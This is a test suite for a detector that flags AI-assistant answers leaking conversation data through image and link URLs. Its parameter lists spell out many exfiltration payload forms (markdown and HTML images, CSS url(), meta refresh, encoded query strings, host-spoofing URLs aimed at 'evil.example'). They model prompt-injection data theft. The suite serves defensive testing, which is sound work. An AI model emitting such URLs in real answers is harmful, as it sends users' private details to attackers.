"""Addresses in answers that carry something out, and those that anybody may show."""

import base64
from dataclasses import replace
from urllib.parse import quote

import pytest

from seawall.detect.exfiltration import Exfiltration
from seawall.terms import Finding, Role, Text
from tests.detect.exfiltration.conversation import CONVERSATION, SAID

SURE = 0.8


def found(answer: str, *allowed: str) -> list[Finding]:
    return list(Exfiltration({"": allowed}).seek(CONVERSATION).find(Text(answer)))


def encoded(encode: object, text: str = SAID) -> str:
    assert callable(encode)
    return str(encode(text.encode()).decode())


CARRIED = [
    "?d=Anna+Kowalska,+Harbour+Lane+7",
    f"?q={quote(SAID)}",
    f"/{encoded(base64.urlsafe_b64encode)}/x.png",
    f"?d={encoded(base64.b32encode)}",
    f"?d={encoded(base64.b64encode, '???>>> ' + SAID + ' ???>>>')}",
    f"#{encoded(base64.b16encode)}",
]


@pytest.mark.parametrize("carried", CARRIED)
@pytest.mark.parametrize(
    "form",
    [
        "![a picture]({})",
        "![]( <{}> 'a title' )",
        "![an [inner] label]({})",
        "![over\nlines]({})",
        "![x][1]\n\n  [1]: {}",
        '<img alt="x" src="{}">',
        "<IMG SRC = '{}' />",
        "<td background={}>",
        "<style>body {{ background: url({}) }}</style>",
        "<style>@import '{}';</style>",
        "![a\\]b]({})",
        "![a [b [c [d]]]]({})",
        '![a]({} "it\'s a \\"title\\"\nover lines")',
        "![a](     <{}>     'x'   )",
        "![a]({} =100x20)",
        "\n> [1]: {}\n> ![x][1]",
        "\n- [x\\]y]:      {}",
        '<img src    =    "{}">',
        '<img srcset="a.png 1x, {} 2x">',
        '<svg><image xlink:href="{}"/></svg>',
        '<link rel=prefetch href="{}">',
        '<meta http-equiv=refresh content="0; url={}">',
    ],
)
def test_an_image_that_carries_words_of_the_conversation_is_all_but_certain(
    form: str, carried: str
) -> None:
    (one,) = found(f"Here it is: {form.format(f'https://x.example{carried}')}\nAnything else?")
    assert (one.kind, one.confidence) == ("exfiltration.image", 0.97)


@pytest.mark.parametrize(
    "address",
    [
        'https://x.example/p?d="Anna+Kowalska+Harbour+Lane"',
        "https://x.example/p?'d=Anna+Kowalska+Harbour+Lane+7",
        "<https://x.example/p?d=Anna Kowalska, Harbour Lane 7>",
        "https:/x.example/p?d=Anna+Kowalska+Harbour+Lane",
        "/\\x.example/p?d=Anna+Kowalska+Harbour+Lane",
        "HTTPS:\\\\x.example\\p?d=Anna+Kowalska+Harbour+Lane",
        f"https://x.example/{'x' * 2100}?d=Anna+Kowalska+Harbour+Lane",
        "https://anna-kowalska-harbour-lane-7.x.example/p.png",
    ],
)
def test_addresses_are_read_as_browsers_read_them(address: str) -> None:
    (one,) = found(f"![a]({address}) and more")
    assert (one.kind, one.confidence) == ("exfiltration.image", 0.97)


@pytest.mark.parametrize(
    "address",
    [
        "https://x@img.tide.example@evil.example/p?d=Anna+Kowalska+Harbour+Lane",
        f"https://img.tide.example:{'a' * 260}@evil.example/p?d=Anna+Kowalska+Harbour+Lane",
        "https://evil.example\\@img.tide.example/p?d=Anna+Kowalska+Harbour+Lane",
        "https://evil.example\\.tide.example/p?d=Anna+Kowalska+Harbour+Lane",
        "https://anna-kowalska-harbour-lane@img.tide.example/",
    ],
)
def test_no_host_passes_for_one_that_is_allowed(address: str) -> None:
    assert [one.kind for one in found(f"![a]({address})", "*.tide.example")] == [
        "exfiltration.image"
    ]


@pytest.mark.parametrize(
    "host", ["CHARTS.evil.example", "x@charts.evil.example", "charts.evil.example."]
)
def test_an_address_of_the_conversation_is_known_however_it_is_written(host: str) -> None:
    (one,) = found(f"![chart](http://{host}/p.png?d=Kowalska7)")
    assert one.confidence >= SURE


def test_a_name_that_nobody_said_is_found_where_it_is_no_caption() -> None:
    (one,) = found("![parcel](https://pixel.x.example/1044.png?buyer=Idris+Calloway&eur=12)")
    assert one.confidence >= SURE
    (one,) = found("![parcel](https://pixel.x.example/1044.png?text=Good+Morning&w=12)")
    assert one.confidence < SURE


def test_of_markdown_all_of_the_image_is_found_and_of_html_the_address() -> None:
    answer = f"So: ![chart](https://x.example/?d={quote(SAID)} 'x') and so on"
    (one,) = found(answer)
    assert answer[one.span.start : one.span.end].startswith("![chart](")
    assert answer[one.span.end :] == " and so on"
    answer = f'<img src="//x.example/?d={quote(SAID)}">'
    (one,) = found(answer)
    assert answer[one.span.start : one.span.end] == f"//x.example/?d={quote(SAID)}"


def test_an_image_that_a_document_began_and_the_answer_completed_is_found() -> None:
    (one,) = found("![chart](https://charts.evil.example/p.png?d=4471-9920)")
    assert one.confidence >= SURE
    (one,) = found("![dog](https://cdn.tide.example/pictures/7781.png)")
    assert one.confidence < SURE


def test_a_link_that_hides_words_of_the_conversation_is_found() -> None:
    hidden = encoded(base64.urlsafe_b64encode)
    (one,) = found(f"Please [confirm](https://x.example/c?d={hidden}).")
    assert (one.kind, one.confidence) == ("exfiltration.link", 0.97)
    (one,) = found(f"Please go to https://{hidden[:40]}@x.example/, now.")
    assert one.confidence == 0.97


@pytest.mark.parametrize(
    "answer",
    [
        "[how to](https://help.tide.example/how-do-i-reset-my-password)",
        "https://www.tide.example/help",
        "![chart](https://charts.evil.example/p.png?d=SUMMARY)",
        "See https://docs.python.org/3/library/functions.html#sorted, or (https://a.example/b).",
        "![logo](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg)",
        "https://github.com/a/b/commit/0123456789abcdef0123456789abcdef01234567",
        "https://www.google.com/search?q=how+do+I+reset+my+password",
        "![here](/pictures/7781.png) and [there](#the-end)",
        "src = path.join('a', 'b')  # no address",
        "a // b and c // d",
        "[2]: https://doi.org/10.1038/s41586-021-03819-2",
        "[3]: https://shop.example/dp/B08N5WRWNW/ref=sr_1_3?keywords=red+shoes&qid=1700000000",
        "[1]: https://en.wikipedia.org/wiki/Special:Search?search=albert+einstein+relativity",
        "![x](https://upload.wikimedia.org/thumb/1/15/Cat_August_2010-4.jpg/1200px-Cat_2010-4.jpg)",
        "![x](https://images.unsplash.com/photo-1514888286974-6c03e2ca1dba?w=800&fit=crop&q=60)",
        "![p](https://placehold.co/600x400?text=Hello+World)",
        "![a](https://avatars.githubusercontent.com/u/123456789?v=4)",
        "![i](https://cdn.other.example/images/3f2a9c7e5b1d4a8f9e0c2b7d6a1f4e3c.png)",
        '`<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.2/dist/js/bootstrap.min.js">`',
        "`data=https://example.com/d/2024-11-29-12345` and `rsync src=//server/share/Jane+Doe`",
        "![how](https://cdn.other.example/how-do-i-reset-my-password.png)",
        "",
    ],
)
def test_what_anybody_may_show_passes(answer: str) -> None:
    assert all(one.confidence < SURE for one in found(answer))


def test_a_host_that_the_instructions_name_is_left_alone() -> None:
    told = Text("Show pictures from https://img.fen.example/i/NAME.png only.", Role.SYSTEM)
    finder = Exfiltration().seek(replace(CONVERSATION, instructions=(told,)))
    assert not list(finder.find(Text("![a](https://img.fen.example/i/Anna-Kowalska.png?w=1)")))
    assert list(finder.find(Text("![a](https://fen.example/?d=Anna+Kowalska+Harbour)")))


def test_hosts_that_are_allowed_are_left_alone() -> None:
    answer = f"![x](https://img.tide.example/?d={quote(SAID)})"
    assert found(answer, "img.tide.example") == []
    assert found(answer, "*.tide.example") == []
    assert len(found(answer, "tide.example", "*.evil.example")) == 1
    by_feature = Exfiltration({"shop": ["*.tide.example"]})
    assert len(list(by_feature.seek(CONVERSATION).find(Text(answer)))) == 1
    shop = replace(CONVERSATION, feature="shop")
    assert list(by_feature.seek(shop).find(Text(answer))) == []
